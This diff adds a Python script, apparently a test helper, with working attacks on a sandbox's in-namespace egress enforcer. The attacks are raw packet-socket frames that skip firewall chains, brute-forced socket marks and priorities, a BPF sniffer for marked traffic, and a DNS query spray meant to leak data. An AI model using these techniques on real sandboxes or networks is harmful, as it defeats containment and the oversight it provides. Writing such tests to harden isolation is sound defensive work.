@@ -1,0 +1,106 @@
+"""Attacks on an enforcer that lives in the sandbox's own network namespace. The first argument names the attack."""
+
+from __future__ import annotations
+
+import ctypes
+import random
+import socket
+import struct
+import sys
+from collections.abc import Callable
+
+SOL_PACKET, PACKET_QDISC_BYPASS, SO_PRIORITY, SO_MARK, SO_ATTACH_FILTER = 263, 20, 12, 36, 26
+ETH_P_ALL, ETH_P_IP = 3, 0x0800
+
+
+def checksum(data: bytes) -> int:
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def datagram(source: str, target: str, source_port: int, port: int, payload: bytes) -> bytes:
+    """An IPv4 packet with a UDP datagram."""
+    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0)
+    head += socket.inet_aton(source) + socket.inet_aton(target)
+    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp
+
+
+def packet_socket(bypass: str, source: str, target: str, port: str, mac: str) -> None:
+    """Puts a frame on the wire behind every inet chain."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as sender:
+        sender.bind(("eth0", ETH_P_IP))
+        if bypass == "bypass":
+            sender.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
+        own = sender.getsockname()[4]
+        frame = bytes.fromhex(mac.replace(":", "")) + own + struct.pack("!H", ETH_P_IP)
+        for _ in range(3):
+            sender.send(frame + datagram(source, target, 5555, int(port), b"stolen by a frame"))
+
+
+def marks(target: str, port: str) -> None:
+    """Tries marks and priorities that somebody might trust."""
+    numbers = [1 << bit for bit in range(32)] + list(range(256)) + [random.getrandbits(32) for _ in range(500)]
+    for number in numbers:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+            sender.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", number))
+            sender.setsockopt(socket.SOL_SOCKET, SO_PRIORITY, struct.pack("I", number & 0x7FFFFFFF))
+            try:
+                sender.sendto(b"stolen by a mark", (target, int(port)))
+            except PermissionError:
+                continue
+
+
+def spy(own_mark: str) -> None:
+    """Looks for packets that leave with a mark; one of its own making, if asked, shows that it would see them."""
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as watcher:
+        watcher.bind(("eth0", ETH_P_ALL))
+        # ld mark; jeq 0 -> ret 0; ret 65535
+        program = [(0x20, 0, 0, 0xFFFFF000 + 20), (0x15, 0, 1, 0), (0x06, 0, 0, 0), (0x06, 0, 0, 65535)]
+        code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *step) for step in program))
+        watcher.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HL", len(program), ctypes.addressof(code)))
+        watcher.settimeout(2)
+        while True:
+            # What came before the filter.
+            try:
+                watcher.setblocking(False)
+                watcher.recv(65536)
+            except BlockingIOError:
+                break
+        watcher.settimeout(2)
+        print("watching", flush=True)
+        if int(own_mark):
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+                sender.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", int(own_mark)))
+                sender.sendto(b"marked", ("198.51.100.66", 4444))
+        sys.stdin.readline()
+        try:
+            watcher.recv(65536)
+            print("seen", flush=True)
+        except TimeoutError:
+            print("nothing", flush=True)
+
+
+def spray(target: str, low: str, high: str, label: str) -> None:
+    """From every port that the enforcer may have asked the DNS server from, asks it something of its own."""
+    for port in range(int(low), int(high) + 1):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+            try:
+                sender.bind(("0.0.0.0", port))
+            except OSError:
+                continue
+            name = b"".join(bytes([len(part)]) + part for part in f"x{port}.{label}".encode().split(b"."))
+            query = struct.pack("!HHHHHH", port, 0x0100, 1, 0, 0, 0) + name + b"\0\0\x01\0\x01"
+            sender.sendto(query, (target, 53))
+            sender.settimeout(0.02)
+            try:
+                sender.recv(512)
+            except (TimeoutError, ConnectionError):
+                continue
+
+
+if __name__ == "__main__":
+    attacks: dict[str, Callable[..., None]] = {"packet": packet_socket, "marks": marks, "spy": spy, "spray": spray}
+    attacks[sys.argv[1]](*sys.argv[2:])
